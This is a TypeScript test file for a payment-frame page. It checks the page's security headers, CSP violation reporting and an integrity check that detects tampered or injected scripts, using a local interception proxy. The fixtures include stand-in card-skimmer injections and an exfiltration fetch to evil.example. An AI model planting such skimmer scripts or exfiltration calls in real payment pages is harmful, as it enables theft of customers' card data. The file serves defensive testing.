import { createServer, type Server } from 'node:http'
import { once } from 'node:events'
import type { AddressInfo } from 'node:net'
import { mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { dirname } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { checkPaymentFrame, paymentSession } from '../../src/calls/addresses.ts'
import { createOneIncProvider } from '../../src/server/payments/provider/one-inc-provider.ts'
import { sampleAccount } from '../fixtures/fake-billing.ts'
import { createFakeProvider } from '../fixtures/fake-provider.ts'
import { startPaymentScene } from '../fixtures/payment-scene.ts'
import { sealFor } from '../fixtures/seal-account.ts'
import type { PaymentProvider } from '../../src/server/payments/provider/payment-provider.ts'
import { startTestApp, type TestApp } from '../fixtures/test-app.ts'
import { trySandbox, type TriedSandbox } from '../fixtures/sandbox-payments.ts'
import { testTenants } from '../fixtures/test-tenants.ts'
import { builtOf } from '../fixtures/tiny-pages.ts'

/** Of a name that nothing built has, nor another run of the tests beside this one. */
const bridge = `/enhance/frame-bridge-${process.pid}.js`
/** Where the build puts it. */
const bridgeFile = `build/payFrame${bridge}`
const tiny = builtOf({})
const pages = { ...tiny, assets: { ...tiny.assets, payFrame: bridge } }

let tried: TriedSandbox
let site: TestApp
let logged: string[]
beforeAll(async () => {
  mkdirSync(dirname(bridgeFile), { recursive: true })
  writeFileSync(bridgeFile, 'export {}')
  tried = await trySandbox()
  logged = []
  site = await startTestApp({ pages, payBy: tried.provider, log: logged })
})
afterAll(async () => {
  await site?.close()
  await tried?.close()
  rmSync(bridgeFile, { force: true })
})

describe('the page with the payment form', () => {
  it('runs the provider’s script and our bridge, by name, and nothing else', async () => {
    const page = await fetch(`${site.origin}/pay/frame`)
    const html = await page.text()
    expect([...html.matchAll(/<script[^>]*>/g)].map(([script]) => script)).toEqual([
      `<script type="module" src="${bridge}">`,
      `<script async src="${tried.origin}/GenericModalV2/PortalOne.js">`,
    ])
    expect(html).toContain('<div id="portalOneContainer"></div>')
    const policy = page.headers.get('content-security-policy') ?? ''
    const parts = Object.fromEntries(policy.split('; ').map((part) => [part.split(' ')[0], part.split(' ').slice(1).join(' ')]))
    expect(parts).toEqual({
      'default-src': "'none'",
      'script-src': `${site.origin}${bridge} ${tried.origin}/GenericModalV2/PortalOne.js`,
      'style-src': expect.stringMatching(/^'sha256-[^ ]+'$/),
      'img-src': `data: ${tried.origin}`,
      'font-src': tried.origin,
      'connect-src': tried.origin,
      'frame-src': tried.origin,
      'form-action': tried.origin,
      'base-uri': "'none'",
      'frame-ancestors': "'self'",
      'report-uri': '/pay/frame/reports',
    })
    expect(page.headers.get('referrer-policy')).toBe('no-referrer')
    expect(page.headers.get('x-frame-options')).toBe('SAMEORIGIN')
    expect(page.headers.get('cache-control')).toBe('no-store')
  })

  it('is there for every insurer in its own language, and has nothing of who asks', async () => {
    const cookie = await site.cookieOf('admin')
    const asked = await Promise.all(
      [new Headers(), new Headers({ cookie })].map(async (headers) => (await fetch(`${site.origin}/pay/frame`, { headers })).text()),
    )
    expect(asked[0]).toBe(asked[1])
  })

  it('is the only page that may stand in a frame', async () => {
    const other = await fetch(`${site.origin}/health`)
    expect(other.headers.get('content-security-policy')).toContain("frame-ancestors 'none'")
    expect(other.headers.get('x-frame-options')).toBe('DENY')
  })

  it('names One Inc where One Inc takes payments', async () => {
    const host = 'https://testportalone.processonepayments.com'
    const provider = createOneIncProvider({
      host,
      mode: 'embedded',
      authenticationKey: 'key',
      noticeSecret: 'a',
      lookups: false,
      timeZone: 'America/Denver',
      now: () => new Date(),
      warn: () => {},
    })
    const theirs = await startTestApp({ pages, payBy: provider })
    try {
      const page = await fetch(`${theirs.origin}/pay/frame`)
      expect(await page.text()).toContain(`<script async src="${host}/GenericModalV2/PortalOne.js">`)
      expect(page.headers.get('content-security-policy')).toContain(`style-src 'unsafe-inline' ${host}; `)
    } finally {
      await theirs.close()
    }
  })

  it('is not there where the form is on the provider’s own page, nor is anything it could be started with', async () => {
    const fake = createFakeProvider({ now: () => new Date() })
    const openSession: PaymentProvider['openSession'] = async (wish) => ({ ...(await fake.openSession(wish)), redirectTo: theirs })
    const theirs = 'https://pay.example/hosted'
    const payBy = { ...fake, openSession, mode: 'redirect' as const }
    const { site: at } = await startPaymentScene({ payBy })
    try {
      expect((await fetch(`${at.origin}/pay/frame`)).status).toBe(404)
      expect((await at.post(checkPaymentFrame.path, {}, { as: 'admin' })).status).toBe(404)
      const sealed = () => sealFor(at.origin, { is: 'account', value: sampleAccount.number })
      const quick = (await at.post(`/auth/quick-pay-token/${await sealed()}`, {})).body
      expect(quick).toMatchObject({ status: true, sessionKey: '', accessToken: '' })
      const methods = (await at.post(`/auth/signin-microsoft/${await sealed()}/test`, {}, { as: 'customer' })).body
      const again = (await at.post(paymentSession.path, { code: quick.payment })).body
      const leadingOn = { sessionKey: '', accessToken: '', parameters: {}, redirectTo: theirs }
      expect([methods, again]).toMatchObject([{ sessionKey: '', session: leadingOn }, { session: leadingOn }])
    } finally {
      await at.close()
    }
  })

  it('is not there where nothing can be paid', async () => {
    const none = await startTestApp()
    expect((await fetch(`${none.origin}/pay/frame`)).status).toBe(404)
    await none.close()
  })
})

describe('a report that its policy was broken', () => {
  const send = (body: unknown, type = 'application/csp-report') =>
    fetch(`${site.origin}/pay/frame/reports`, { method: 'POST', headers: { 'content-type': type }, body: JSON.stringify(body) })

  it('is logged without what stands in an address, and only so often', async () => {
    const report = { 'csp-report': { 'violated-directive': 'script-src elem', 'blocked-uri': 'https://evil.example/skim.js?card=4111' } }
    expect((await send(report)).status).toBe(204)
    expect(logged.join()).toContain('"directive":"script-src","blocked":"https://evil.example"')
    expect(logged.join()).not.toContain('4111')
    const answers = await Promise.all(Array.from({ length: 25 }, () => send(report)))
    expect(answers.map(({ status }) => status)).toContain(429)
  })

  it.each([
    [{}, 400],
    [{ 'csp-report': 'none' }, 400],
  ])('is refused where it is none: %j', async (body, status) => {
    site.clock.advance(2 * 3600_000)
    expect((await send(body)).status).toBe(status)
    expect((await send(body, 'application/json')).status).toBe(415)
  })
})

describe('the check of the page', () => {
  const check = (at: TestApp) => at.post(checkPaymentFrame.path, {}, { as: 'admin' })

  it('is made by the week, without anybody asking', async () => {
    const checks = async () => {
      const { rows } = (await site.database.db.execute('select count(*)::int as many from payment_frame_checks')) as unknown as {
        rows: { many: number }[]
      }
      return rows[0].many
    }
    await expect.poll(checks).toBeGreaterThanOrEqual(1)
  })

  it('finds nothing where nothing was changed, and keeps what the scripts are', async () => {
    const { status, body } = await check(site)
    expect(status).toBe(200)
    expect(body).toMatchObject({ findings: [], scripts: [{ src: bridge }, { src: `${tried.origin}/GenericModalV2/PortalOne.js` }] })
  })

  it('finds our script changed on the disk or on its way, and tells the admins', async () => {
    writeFileSync(bridgeFile, 'export {}; fetch("https://evil.example")')
    const between = await standBetween(site.origin, (_path, page) => page)
    const at = await startTestApp({ pages, payBy: tried.provider, publicUrl: between.origin, tenants: testTenants })
    between.lead(at.origin)
    try {
      between.change((path, page) => (path === bridge ? { ...page, body: 'stolen()' } : page))
      const { body } = await check(at)
      expect(body.findings).toEqual([`Our script ${bridge} is another one than was built.`])
      const kept = await at.app.jobs.counts()
      expect(kept.dead).toBe(0)
      const { rows } = (await at.database.db.execute("select count(*)::int as many from mails where kind = 'notice'")) as unknown as {
        rows: { many: number }[]
      }
      expect(rows[0].many).toBeGreaterThan(0)
    } finally {
      await at.close()
      await between.close()
      writeFileSync(bridgeFile, 'export {}')
    }
  })

  it.each<[string, Change, RegExp]>([
    ['a header that is gone', drop('content-security-policy'), /^The header content-security-policy is missing/],
    [
      'a header that lets more in',
      (_path, page) => ({ ...page, headers: { ...page.headers, 'content-security-policy': 'script-src *' } }),
      /^The header content-security-policy is another one/,
    ],
    [
      'a script put into the page',
      put('<script src="https://evil.example/skim.js"></script>'),
      /^There is a script that was not released: https:\/\/evil\.example\/skim\.js/,
    ],
    ['an inline script put into the page', put('<script>skim()</script>'), /^There is a script that was not released: inline "skim\(\)"/],
    ['words put into the page', put('<p>Send your card to us</p>'), /^The page holds something else/],
  ])('finds %s', async (_what, change, words) => {
    const between = await standBetween(site.origin, change)
    const at = await startTestApp({ pages, payBy: tried.provider, publicUrl: between.origin })
    between.lead(at.origin)
    try {
      const { body } = await check(at)
      expect((body.findings as string[])[0]).toMatch(words)
      expect(body.findings).toHaveLength(1)
    } finally {
      await at.close()
      await between.close()
    }
  })

  it('finds a script of the provider’s that changed since the last time, once', async () => {
    let text = 'first'
    const vendor = createServer((_request, response) => void response.end(text)).listen(0, '127.0.0.1')
    await once(vendor, 'listening')
    const origin = `http://127.0.0.1:${(vendor.address() as AddressInfo).port}`
    const at = await startTestApp({
      pages,
      payBy: { ...tried.provider, widget: { script: `${origin}/widget.js`, origins: [origin], ownStyles: false, into: 'their-form' } },
    })
    try {
      expect(await (await fetch(`${at.origin}/pay/frame`)).text()).toContain('<div id="their-form"></div>')
      // The check of the week is made as a server starts; later than ours, it would be the one that finds what is told once.
      await at.app.jobs.settle()
      expect((await check(at)).body.findings).toEqual([])
      text = 'second'
      expect((await check(at)).body.findings).toEqual([expect.stringContaining('has changed since the last check')])
      expect((await check(at)).body.findings).toEqual([])
      vendor.close()
      vendor.closeAllConnections()
      expect((await check(at)).body.findings).toEqual([expect.stringContaining('cannot be had')])
    } finally {
      await at.close()
    }
  })

  it('is for admins', async () => {
    for (const as of ['agent', 'customer'] as const) expect((await site.post(checkPaymentFrame.path, {}, { as })).status).toBe(403)
    expect((await site.post(checkPaymentFrame.path, {})).status).toBe(401)
  })
})

type Passed = { headers: Record<string, string>; body: string }
type Change = (path: string, page: Passed) => Passed

function drop(name: string): Change {
  return (_path, { headers: { [name]: _gone, ...headers }, body }) => ({ headers, body })
}

function put(words: string): Change {
  return (path, page) => (path === '/pay/frame' ? { ...page, body: page.body.replace('</head>', `${words}</head>`) } : page)
}

/** Somebody between the site and the world, who changes what passes. */
async function standBetween(target: string, first: Change) {
  let [to, change] = [target, first]
  const server: Server = createServer(async (request, response) => {
    if (request.url === bridge && change === first) return void response.end('export {}')
    const answer = await fetch(to + request.url, { headers: { host: request.headers.host ?? '' } }).catch(() => undefined)
    // A site that closed meanwhile answers nobody.
    if (!answer) return void response.destroy()
    const { headers, body } = change(request.url ?? '', { headers: Object.fromEntries(answer.headers), body: await answer.text() })
    for (const name of ['content-length', 'content-encoding', 'transfer-encoding', 'connection']) delete headers[name]
    response.writeHead(request.url === bridge ? 200 : answer.status, headers).end(body)
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    lead: (origin: string) => void (to = origin),
    change: (next: Change) => void (change = next),
    async close() {
      server.closeAllConnections()
      server.close()
    },
  }
}
